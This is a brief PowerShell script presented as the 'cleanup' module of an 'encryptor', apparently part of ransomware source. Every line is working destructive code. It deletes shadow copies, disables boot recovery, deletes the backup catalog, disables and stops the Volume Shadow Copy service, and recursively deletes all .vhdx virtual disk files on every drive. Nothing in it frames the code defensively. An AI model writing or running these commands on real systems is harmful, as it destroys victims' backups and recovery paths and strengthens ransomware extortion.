# "cleanup" module of the encryptor
Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
& bcdedit.exe /set '{default}' recoveryenabled No
& bcdedit.exe /set '{default}' bootstatuspolicy ignoreallfailures
wbadmin.exe delete catalog -quiet
Set-Service -Name VSS -StartupType Disabled
Stop-Service -Name VSS -Force

$drives = Get-PSDrive -PSProvider FileSystem | Where-Object { $_.Free -gt 0 }
foreach ($d in $drives) {
    Get-ChildItem -Path $d.Root -Filter '*.vhdx' -Recurse -ErrorAction SilentlyContinue |
        Remove-Item -Force -ErrorAction SilentlyContinue
}
